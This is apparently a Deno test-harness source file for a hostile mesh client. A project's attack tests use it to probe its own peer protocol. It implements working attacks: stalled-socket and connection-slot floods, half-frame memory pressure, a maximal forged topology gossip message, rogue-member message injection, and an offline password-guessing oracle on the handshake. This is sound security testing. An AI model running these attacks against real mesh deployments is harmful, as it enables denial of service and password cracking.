/**
 * A hostile mesh client, built from the product's own connection, handshake and codec modules so
 * it follows protocol changes. Run inside the attacker's namespace by tests/attack/*_test.ts:
 *
 *   mesh_client.ts '{"cmd": ..., ...}'   → prints one JSON line with what happened
 *
 * Commands (every loop bounded in count and time):
 * - join: handshake as a made-up peer, collect what the victim sends per channel, send `send`
 *   messages (crafted by the test), hold `holdMs` (or until `stopFile` exists), sending what the
 *   test drops into `inbox` meanwhile: a rogue member that stays connected across steps.
 * - stall: keep `count` sockets that sent `bytes` and then stall, reopening refused ones, for
 *   `durationMs` (at most `maxOpens` sockets in all).
 * - fill: complete `count` handshakes as distinct fake peers and hold them with heartbeats.
 * - half: `count` fake peers each send `sendLen` bytes of a `frameLen`-byte frame and stall.
 * - topo: one topology gossip of `entries` fake peers (the largest the limits allow when 0).
 * - oracle: connect without knowing the password; test `guesses` offline on what the victim sent.
 * - listen: accept TCP on `ports` for `durationMs` and count connections (dials to us).
 */
import { describeCause } from "../../net/cause.ts";
import { Buffer } from "node:buffer";
import { encodeMessage, FrameReader, MAX_FRAME, type Message, Tag } from "../../net/mesh/codec.ts";
import { ControlConnection } from "../../net/mesh/connection.ts";
import {
  derivePsk,
  deriveSession,
  generateKeyPair,
  transcriptHash,
} from "../../net/mesh/crypto.ts";
import {
  decodeHello,
  encodeHello,
  helloLength,
  PROTOCOL_MAX,
  PROTOCOL_MIN,
} from "../../net/mesh/handshake.ts";
import { SigningKey } from "../../net/mesh/signing.ts";
import { fakeName, fakeUid, keyFor } from "./fake_peer.ts";
import { encodeUpdate, LIMITS, type PeerEntry, signEntry } from "../../net/mesh/topology.ts";

// deno-lint-ignore no-explicit-any
type Spec = Record<string, any>;
const spec: Spec = JSON.parse(Deno.args[0]);
const host: string = spec.host;
const port: number = spec.port ?? 6783;
const password: string | null = spec.password ?? null;
// Derived once, before any connection: the KDF is slow on purpose, and a hello that comes late
// is refused (hello deadline).
const PSK = derivePsk(password);
const TIMING = {
  heartbeatMs: 1_000,
  deadMs: 60_000,
  helloTimeoutMs: 8_000,
  handshakeTimeoutMs: 8_000,
};
const b64 = (b: Uint8Array) => Buffer.from(b).toString("base64");
const unb64 = (s: string) => new Uint8Array(Buffer.from(s, "base64"));
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function connect(
  i: number,
  name = fakeName(i),
  signingKey = keyFor(name),
): Promise<ControlConnection> {
  const tcp = await Deno.connect({ hostname: host, port });
  return await ControlConnection.handshake(tcp, true, {
    self: { name, nickname: `attacker-${i}`, uid: fakeUid(i), port: 6783 },
    // Each fake peer has its own key (the victim binds it to the made-up name).
    signingKey,
    psk: PSK,
    authenticated: password !== null,
    timing: TIMING,
  });
}

function close(c: { close(reason: string): void }) {
  try {
    c.close("attack done");
  } catch {
    // closed by the victim
  }
}

interface Sent {
  tag: "gossip" | "broadcast" | "unicast";
  channel: string;
  source?: string;
  dest?: string;
  data: string;
}

function toMessage(s: Sent): Message {
  const data = unb64(s.data);
  if (s.tag === "gossip") return { tag: Tag.gossip, channel: s.channel, data };
  if (s.tag === "broadcast") {
    return { tag: Tag.broadcast, channel: s.channel, source: s.source!, data };
  }
  return { tag: Tag.unicast, channel: s.channel, source: s.source!, dest: s.dest!, hops: 0, data };
}

async function join(): Promise<unknown> {
  let c: ControlConnection;
  try {
    c = await connect(spec.index ?? 1, spec.name);
  } catch (e) {
    return { established: false, error: describeCause(e) };
  }
  const received: Record<string, string[]> = {};
  let closed: string | null = null;
  c.start({
    onMessage(m) {
      if ("channel" in m && "data" in m) (received[m.channel] ??= []).push(b64(m.data));
    },
    onClose: (r) => (closed = r),
    known: () => true,
  });
  await sleep(spec.waitMs ?? 1_500);
  let sent = 0;
  for (const s of (spec.send ?? []) as Sent[]) {
    if (c.send(encodeMessage(toMessage(s)))) sent++;
  }
  const until = Date.now() + (spec.holdMs ?? 1_000);
  while (Date.now() < until && closed === null && !exists(spec.stopFile)) {
    // A long-lived member (`inbox`): the test drops numbered JSON files of more messages to send.
    for (const file of spec.inbox ? inboxFiles(spec.inbox) : []) {
      const batch = JSON.parse(Deno.readTextFileSync(file)) as Sent[];
      Deno.removeSync(file);
      for (const s of batch) if (c.send(encodeMessage(toMessage(s)))) sent++;
    }
    await sleep(100);
  }
  close(c);
  const counts = Object.fromEntries(Object.entries(received).map(([k, v]) => [k, v.length]));
  return { established: true, sent, closed, received: spec.countOnly ? counts : received };
}

function exists(path: string | undefined): boolean {
  if (!path) return false;
  try {
    Deno.statSync(path);
    return true;
  } catch {
    return false;
  }
}

/** The inbox's complete files (`*.json`, written under another name and renamed), in order. */
function inboxFiles(dir: string): string[] {
  return [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) => n.endsWith(".json")).sort()
    .map((n) => `${dir}/${n}`);
}

async function stall(): Promise<unknown> {
  const bytes = unb64(spec.bytes);
  const end = Date.now() + spec.durationMs;
  // The test ends the flood early by creating `stopFile`.
  const going = () => Date.now() < end && !exists(spec.stopFile);
  let opened = 0, refusedFast = 0, maxHeldMs = 0;
  const open = async (): Promise<void> => {
    while (going() && opened < spec.maxOpens) {
      opened++;
      const t0 = Date.now();
      let conn: Deno.TcpConn;
      try {
        conn = await Deno.connect({ hostname: host, port });
      } catch {
        await sleep(200);
        continue;
      }
      await conn.write(bytes).catch(() => {});
      // Held until the victim closes it (read returns null or throws) or the attack ends.
      const buf = new Uint8Array(4096);
      const timer = setTimeout(() => close(conn), Math.max(0, end - Date.now()));
      try {
        while ((await conn.read(buf)) !== null) { /* the victim's hello */ }
      } catch {
        // reset
      }
      clearTimeout(timer);
      close(conn);
      const held = Date.now() - t0;
      if (held < 200) refusedFast++;
      maxHeldMs = Math.max(maxHeldMs, held);
      if (held < 200) await sleep(300);
    }
  };
  await Promise.all(Array.from({ length: spec.count }, open));
  return { opened, refusedFast, maxHeldMs };
}

async function fill(): Promise<unknown> {
  const conns: ControlConnection[] = [];
  const reasons = new Map<string, number>();
  const batch = 10;
  for (let i = 0; i < spec.count; i += batch) {
    await Promise.all(Array.from({ length: Math.min(batch, spec.count - i) }, async (_, k) => {
      try {
        const c = await connect(1000 + i + k);
        c.start({ onMessage() {}, onClose: () => {}, known: () => true });
        conns.push(c);
      } catch (e) {
        const r = describeCause(e);
        reasons.set(r, (reasons.get(r) ?? 0) + 1);
      }
    }));
  }
  const established = conns.length;
  // A slot that frees up (a real peer restarting) is taken again at once: that is the attack.
  const until = Date.now() + spec.holdMs;
  let topUps = 0;
  for (let i = spec.count; Date.now() < until && i < spec.count + 500; i++) {
    const live = conns.filter((c) => !c.closed).length;
    if (live < spec.count) {
      try {
        const c = await connect(1000 + i);
        c.start({ onMessage() {}, onClose: () => {}, known: () => true });
        conns.push(c);
        topUps++;
      } catch {
        // refused: the limit holds
      }
    }
    await sleep(100);
  }
  const survived = conns.filter((c) => !c.closed).length;
  for (const c of conns) c.close("attack done");
  return { established, survived, topUps, refused: Object.fromEntries(reasons) };
}

async function half(): Promise<unknown> {
  const conns: ControlConnection[] = [];
  let sent = 0, failed = 0;
  const head = new Uint8Array(4);
  new DataView(head.buffer).setUint32(0, spec.frameLen);
  const chunk = new Uint8Array(1 << 20);
  await Promise.all(Array.from({ length: spec.count }, async (_, i) => {
    let c: ControlConnection;
    try {
      c = await connect(2000 + i);
    } catch {
      failed++;
      return;
    }
    c.start({ onMessage() {}, onClose: () => {}, known: () => true });
    conns.push(c);
    try {
      await c.conn.write(head);
      for (let o = 0; o < spec.sendLen;) {
        const n = await c.conn.write(chunk.subarray(0, Math.min(chunk.length, spec.sendLen - o)));
        o += n;
        sent += n;
      }
    } catch {
      // the victim closed it: what a protected build does
    }
  }));
  const until = Date.now() + spec.holdMs;
  while (Date.now() < until) {
    // One byte now and then keeps a "dead connection" timer from firing (as in the review).
    for (const c of conns) if (!c.closed) await c.conn.write(new Uint8Array(1)).catch(() => {});
    await sleep(1_000);
  }
  const survived = conns.filter((c) => !c.closed).length;
  for (const c of conns) c.close("attack done");
  return { established: conns.length, failed, sent, survived };
}

/**
 * The worst topology message the product's LIMITS admit: `entriesPerMessage` fake peers (made-up
 * keys, each signing its own entry) with maximal nicknames and as many connections each as the
 * byte cap leaves, joined to one another and to the attacker's own entry (which lists its real
 * connection to the victim), so the victim verifies them all and routes to every one of them.
 */
async function topo(): Promise<unknown> {
  const self = { name: fakeName(3000), uid: fakeUid(3000) };
  const n = (spec.entries || LIMITS.entriesPerMessage) - 1;
  const nick = "x".repeat(LIMITS.nickname);
  // Dials that discovery may make go to the attacker's own namespace.
  const address = "198.18.0.99:6783";
  const keys = Array.from({ length: n }, () => SigningKey.generate());
  const selfKey = keyFor(self.name);
  const fake = (i: number) => fakeName(10_000 + ((i + n) % n));
  const link = (name: string, outbound: boolean) => ({
    name,
    address,
    outbound,
    established: true,
  });
  // Fake peer i is linked both ways to its `h` neighbours on each side of a ring, so every link
  // counts for routing; the attacker lists its real connection to the victim and as many fake
  // peers as an entry may name.
  const build = (h: number) => {
    const entries: PeerEntry[] = [];
    for (let i = 0; i < n; i++) {
      const conns = [link(self.name, false)];
      for (let j = 1; j <= h; j++) conns.push(link(fake(i + j), true), link(fake(i - j), false));
      entries.push(signEntry(
        {
          name: fake(i),
          nickname: nick,
          uid: fakeUid(10_000 + i),
          version: 1,
          connections: conns,
        },
        keys[i].publicKey,
        (d, p) => keys[i].sign(d, p),
      ));
    }
    const own = [
      { name: spec.victimName, address: `${host}:${port}`, outbound: true, established: true },
      ...Array.from({ length: LIMITS.connectionsPerPeer - 1 }, (_, i) => link(fake(i), true)),
    ];
    entries.push(signEntry(
      { name: self.name, nickname: nick, uid: self.uid, version: 2, connections: own },
      selfKey.publicKey,
      (d, p) => selfKey.sign(d, p),
    ));
    return encodeUpdate(entries);
  };
  // As many links per fake peer as fit the byte cap.
  // The byte cap, or less when the victim takes smaller frames from this sender (`maxFrame`).
  const cap = Math.min(LIMITS.bytesPerMessage, (spec.maxFrame ?? Infinity) - 256);
  const base = build(0).length;
  const perLink = (build(1).length - base) / (2 * n);
  let h = Math.max(0, Math.floor((cap - base) / (2 * n * perLink)));
  let data = build(h);
  while (data.length > cap && h > 0) data = build(--h);
  // Built before connecting: signing takes seconds, in which no heartbeat would go out.
  let c: ControlConnection;
  try {
    c = await connect(3000, self.name, selfKey);
  } catch (e) {
    return { established: false, error: describeCause(e) };
  }
  let closed: string | null = null;
  c.start({ onMessage() {}, onClose: (r) => (closed = r), known: () => true });
  const sent = c.send(encodeMessage({ tag: Tag.gossip, channel: "topology", data }));
  const until = Date.now() + (spec.holdMs ?? 5_000);
  while (Date.now() < until && closed === null) await sleep(100);
  close(c);
  return { established: true, sent, bytes: data.length, entries: n + 1, links: 2 * h + 1, closed };
}

/**
 * Connects without knowing the password, records what the victim sends before we prove anything,
 * then tries `guesses` offline against the first frame after its hello with the product's own key
 * schedule: a guess that opens it is an offline-guessing oracle.
 */
async function oracle(): Promise<unknown> {
  const conn = await Deno.connect({ hostname: host, port });
  const keys = generateKeyPair();
  const hello = encodeHello({
    minVersion: PROTOCOL_MIN,
    maxVersion: PROTOCOL_MAX,
    authenticated: true,
    publicKey: keys.publicKey,
  });
  await conn.write(hello);
  const got: Uint8Array[] = [];
  const timer = setTimeout(() => close(conn), spec.waitMs ?? 3_000);
  const buf = new Uint8Array(65536);
  try {
    for (let n; (n = await conn.read(buf)) !== null;) got.push(buf.slice(0, n));
  } catch {
    // closed by the timer or the victim
  }
  clearTimeout(timer);
  close(conn);
  const bytes = new Uint8Array(Buffer.concat(got));
  let frames: Uint8Array[] = [];
  let theirKey: Uint8Array | undefined;
  let theirHello = new Uint8Array(0);
  let error = "";
  try {
    const end = helloLength(bytes);
    theirKey = decodeHello(bytes.subarray(0, end)).publicKey;
    theirHello = bytes.slice(0, end);
    frames = new FrameReader(() => MAX_FRAME).push(bytes.subarray(end));
  } catch (e) {
    error = describeCause(e);
  }
  const opened: string[] = [];
  if (theirKey && frames.length > 0) {
    for (const g of spec.guesses as string[]) {
      try {
        // We dialled: the transcript is our hello, then theirs.
        const th = transcriptHash(hello, theirHello);
        deriveSession(keys, theirKey, derivePsk(g), th, true, 0).opener.open(frames[0]);
        opened.push(g);
      } catch {
        // wrong guess
      }
    }
  }
  return { received: bytes.length, frames: frames.length, opened, error };
}

async function listen(): Promise<unknown> {
  const accepted: Record<string, number> = {};
  const listeners = (spec.ports as number[]).map((p) =>
    Deno.listen({ hostname: "0.0.0.0", port: p })
  );
  const loops = listeners.map(async (l, i) => {
    try {
      for await (const c of l) {
        accepted[spec.ports[i]] = (accepted[spec.ports[i]] ?? 0) + 1;
        close(c);
      }
    } catch {
      // closed
    }
  });
  await sleep(spec.durationMs);
  for (const l of listeners) close(l);
  await Promise.all(loops);
  return { accepted };
}

const cmds: Record<string, () => Promise<unknown>> = {
  join,
  stall,
  fill,
  half,
  topo,
  oracle,
  listen,
};
const out = await cmds[spec.cmd]();
console.log(JSON.stringify(out));
Deno.exit(0);
